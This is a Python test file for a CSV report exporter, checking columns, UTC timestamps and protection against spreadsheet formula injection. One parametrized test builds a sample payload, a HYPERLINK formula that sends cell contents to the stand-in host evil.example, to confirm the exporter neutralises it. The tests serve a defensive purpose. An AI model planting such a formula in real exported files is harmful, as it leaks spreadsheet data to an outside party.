"""A report as CSV: every value comes back as it was, and none is a formula."""

import csv
import io
from dataclasses import replace
from datetime import datetime, timedelta, timezone

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gateway.api.report_csv import COLUMNS, cell, head, rows
from gateway.catalog.reports import Line
from report_line import LINE


def read(line: Line) -> dict[str, str]:
    (found,) = csv.DictReader(io.StringIO((head() + rows([line])).decode(), newline=""))
    return found


def test_a_line_has_every_column_and_not_where_the_thumbnail_lies() -> None:
    found = read(LINE)
    assert tuple(found) == COLUMNS
    assert (found["index"], found["confidence"], found["partial"]) == ("3", "0.9100", "no")
    assert (found["recorded_at"], found["ended_at"]) == ("2026-11-29T12:00:00.500Z", "")
    assert "secret" not in rows([LINE]).decode()


def test_times_are_told_in_utc() -> None:
    berlin = timezone(timedelta(hours=1))
    assert cell(datetime(2026, 1, 1, 1, tzinfo=berlin)) == "2026-01-01T00:00:00.000Z"


@pytest.mark.parametrize("first", [*"=+-@\t\r\n", *"\uff1d\uff0b\uff0d\uff20"])
def test_what_a_spreadsheet_would_reckon_is_marked_as_text(first: str) -> None:
    evil = f'{first}HYPERLINK("http://evil.example?"&A1)'
    assert read(replace(LINE, path=evil))["path"] == f"'{evil}"


@given(st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0")))
def test_any_text_comes_back_and_never_begins_a_formula(text: str) -> None:
    found = read(replace(LINE, path=text, reason=text))
    assert found["path"] == found["reason"]
    assert found["path"] in (text, f"'{text}")
    assert not found["path"].startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
